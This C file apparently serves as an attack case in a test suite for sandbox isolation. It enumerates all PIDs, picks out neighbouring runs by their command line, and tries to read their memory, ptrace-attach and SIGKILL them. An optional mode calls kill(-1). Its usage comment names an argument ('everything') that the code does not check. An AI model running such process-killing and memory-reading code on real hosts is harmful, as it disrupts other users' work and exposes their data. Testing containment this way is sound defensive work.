/*
 * id: A9
 * attack: kills, traces and reads the memory of every process that it can name, a neighbouring run above all
 * walls: pid, user
 * also: mount, seccomp, capability
 * effect: the neighbour dies before its time
 * verdict: AC
 */
#include "facts.h"

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>

#define HIGHEST_PID 65536

static int is_neighbour(int process, const char *token) {
  char path[64], line[1024] = "";
  snprintf(path, sizeof path, "/proc/%d/cmdline", process);
  int file = open(path, O_RDONLY);
  long length = file < 0 ? -1 : read(file, line, sizeof line - 1);
  if (file >= 0) close(file);
  for (long i = 0; i < length; i++) line[i] = line[i] ? line[i] : ' ';
  return length > 0 && strstr(line, token) && !strstr(line, "attacker");
}

static void strike(int process) {
  char word[8];
  struct iovec mine = {word, sizeof word}, theirs = {(void *)0x400000, sizeof word};
  attempt("process_vm_readv", syscall(SYS_process_vm_readv, process, &mine, 1, &theirs, 1, 0));
  attempt("ptrace", ptrace(PTRACE_ATTACH, process, 0, 0));
  attempt("kill", kill(process, SIGKILL));
}

/* argv: token, then `attacker`, or `everything` to kill(-1) as well: never where the host's processes can be reached. */
int main(int argc, char **argv) {
  if (argc < 3) return 1;
  int seen = 0;
  signal(SIGTERM, SIG_IGN);
  for (int process = 2; process < HIGHEST_PID; process++) {
    if (process == getpid() || kill(process, 0)) continue;
    seen++;
    if (is_neighbour(process, argv[1])) strike(process);
  }
  printf("{\"attempt\":\"search\",\"seen\":%d}\n", seen);
  if (!strcmp(argv[2], "attacker-of-all")) attempt("kill(-1)", kill(-1, SIGKILL));
  attempt("pidfd_open(1)", syscall(SYS_pidfd_open, 1, 0));
  return 0;
}
